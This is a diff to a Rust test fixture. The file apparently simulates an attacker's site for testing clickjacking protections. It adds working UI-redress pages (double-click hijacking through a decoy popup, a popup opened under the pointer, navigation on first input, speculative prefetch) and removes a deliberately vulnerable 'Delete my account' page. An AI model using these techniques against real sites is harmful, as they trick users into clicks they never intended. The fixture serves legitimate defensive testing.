@@ -1,4 +1,4 @@
-//! The attacker's site, and the page that falls for it. Nothing of this is in the program.
+//! The attacker's site. Nothing of this is in the program.
 
 use actix_web::{HttpRequest, HttpResponse};
 
@@ -83,26 +83,15 @@ pub const VECTORS: &[Vector] = &[
 /// Size of each frame.
 pub const FRAME: (usize, usize) = (640, 160);
 const COLUMNS: usize = 2;
-/// Colour of the naive page's button.
-pub const NAIVE: [u8; 3] = [255, 0, 255];
-/// The middle of that button, within the frame.
-pub const NAIVE_BUTTON: (i64, i64) = (140, 90);
+/// A text as a parameter of a query.
+pub fn escape(text: &str) -> String {
+    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
+}
 
 /// Where the frame of a vector stands in the window.
 pub fn region(index: usize) -> Region {
     let (width, height) = FRAME;
     ((index % COLUMNS) * (width + 10), (index / COLUMNS) * (height + 10), width, height)
-}
-
-/// A page that wants to be clicked once and does not care who frames it.
-pub fn naive(path: &str, v: &str) -> HttpResponse {
-    let mut response = if path.ends_with("/error") { HttpResponse::NotFound() } else { HttpResponse::Ok() };
-    response.content_type("text/html").body(format!(
-        "<!doctype html><title>Naive</title><body style='margin:0;background:white'>\
-         <form method='post' action='/naive/clicked?v={v}'>\
-         <button id='delete' style='position:absolute;left:40px;top:60px;width:200px;height:60px;border:0;background:#f0f'>\
-         Delete my account</button></form>"
-    ))
 }
 
 /// The attacker's server.
@@ -112,15 +101,35 @@ pub fn answer(request: &HttpRequest) -> HttpResponse {
     match request.path() {
         "/attack" => html(attack(&target)),
         "/wrap" => html(wrap(&parameter(request, "kind"), &target)),
+        // The small window takes the first click of a double click and closes; the page beneath has
+        // gone on to the target already, or does so now.
         "/double-click" => html(format!(
             "<!doctype html><title>Attack</title><button id='go'>See the picture</button><script>
              go.onclick = () => {{ open('/decoy', '_blank', 'width=400,height=300'); location.href = '{target}'; }};</script>"
         )),
-        // The first click of a double click closes the window that took it.
-        "/decoy" => html("<!doctype html><title>Double-click here</title><script>onmousedown = () => close()</script>".to_owned()),
-        "/hold" => html(format!(
-            "<!doctype html><title>Attack</title><button id='go' autofocus>Hold Enter</button><script>
-             go.onclick = () => {{ location.href = '{target}'; }};</script>"
+        "/double-click-late" => html(format!(
+            "<!doctype html><title>Attack</title><button id='go'>See the picture</button><script>
+             go.onclick = () => {{ open('/decoy?u={escaped}', '_blank', 'width=400,height=300'); }};</script>",
+            escaped = escape(&target)
+        )),
+        "/decoy" => html(format!(
+            "<!doctype html><title>Double-click here</title><script>
+             onmousedown = () => {{ if ('{target}') opener.location.href = '{target}'; close(); }};</script>"
+        )),
+        // The target itself becomes the small window, beneath the pointer.
+        "/popup" => html(format!(
+            "<!doctype html><title>Attack</title><body style='height:100vh'><script>
+             onmousedown = () => {{ window.popup = open('{target}', '_blank', 'width=1320,height=1200,left=0,top=0'); }};</script>"
+        )),
+        // Whatever is done here, the target comes, and the next click or key is its.
+        "/lead" => html(format!(
+            "<!doctype html><title>Attack</title><body style='height:100vh'><script>
+             onmousedown = onkeydown = () => {{ onkeydown = null; location.href = '{target}'; }};</script>"
+        )),
+        "/prefetch" => html(format!(
+            "<!doctype html><title>Attack</title><script type='speculationrules'>
+             {{\"prefetch\": [{{\"source\": \"list\", \"urls\": [\"{target}\"], \"eagerness\": \"immediate\"}}]}}</script>
+             <a id='go' href='{target}'>Go on</a>"
         )),
         "/redirect" => {
             let status: u16 = parameter(request, "status").parse().expect("a status");
@@ -145,7 +154,7 @@ fn attack(target: &str) -> String {
     for (index, vector) in VECTORS.iter().enumerate() {
         let (left, top, ..) = region(index);
         let aimed = format!("{target}?v=v{index}");
-        let escaped: String = url::form_urlencoded::byte_serialize(aimed.as_bytes()).collect();
+        let escaped = escape(&aimed);
         let frame = format!(
             "<iframe style='border:0;width:{}px;height:{}px' src='{aimed}'></iframe>",
             FRAME.0, FRAME.1
